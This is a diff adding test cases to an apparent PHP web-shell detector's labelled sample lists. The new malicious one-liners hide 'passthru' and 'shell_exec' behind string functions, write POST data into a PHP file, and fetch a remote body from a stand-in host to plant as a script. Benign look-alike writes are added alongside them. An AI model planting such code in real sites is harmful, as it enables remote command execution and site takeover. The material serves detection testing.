@@ -1047,6 +1047,26 @@ MALICIOUS = [
         CMD,
     ),
     ("name as an array key", "<?php $a = array_keys(['system' => 1]); $a[0]($_GET['c']);", CMD),
+    # names reshaped by string functions: a separator put between the letters, a prefix as the pad
+    (
+        "chunk_split name",
+        "<?php $f = str_replace('-', '', chunk_split('passthru', 1, '-')); $f($_SERVER['HTTP_X']);",
+        CMD,
+    ),
+    ("str_pad name", "<?php $f = str_pad('exec', 10, 'shell_', STR_PAD_LEFT); $f($_COOKIE['c']);", CMD),
+    # an if branch runs in order: a variable reused there holds the value it was given last
+    (
+        "path variable reused in a branch",
+        "<?php $p = 'log.txt'; $d = 'x'; if (!is_file('a')) { $p = 'inc/a.php';"
+        " $d = $_POST['d']; $h = fopen($p, 'w'); fwrite($h, $d); }",
+        WRITE,
+    ),
+    (
+        "remote body planted through reused variables",
+        "<?php $t = 'a.txt'; if (!is_file('inc/x.php')) { $b = file_get_contents('http://e.invalid/x.txt');"
+        " $t = 'inc/x.php'; $h = @fopen($t, 'w'); @fwrite($h, $b); }",
+        WRITE,
+    ),
     ("name flipped to a key", "<?php $f = key(array_flip(['passthru'])); $f($_GET['c']);", CMD),
     ("last key", "<?php $f = array_key_last(['strlen' => 0, 'exec' => 1]); $f($_GET['c']);", CMD),
     (
@@ -1570,6 +1590,15 @@ BENIGN += [
     (
         "a settings text in JSON naming a formatting function applied to a constant",
         "<?php $c = json_decode('{\"case\":\"strtoupper\"}'); echo ($c->case)('title');",
+    ),
+    (
+        "a request-chosen file name replaced by a fixed one in the branch that writes",
+        "<?php $f = $_GET['f']; if (!preg_match('/^[a-z]+$/', $f)) { $f = 'default.txt';"
+        " file_put_contents(__DIR__ . '/' . $f, 'reset'); }",
+    ),
+    (
+        "a fixed script path replaced by a data file before the request's text is written",
+        "<?php $p = 'cache.php'; if (!empty($_POST['t'])) { $p = 'notes.txt'; file_put_contents($p, $_POST['t']); }",
     ),
     (
         "a serialized list of labels printed escaped",
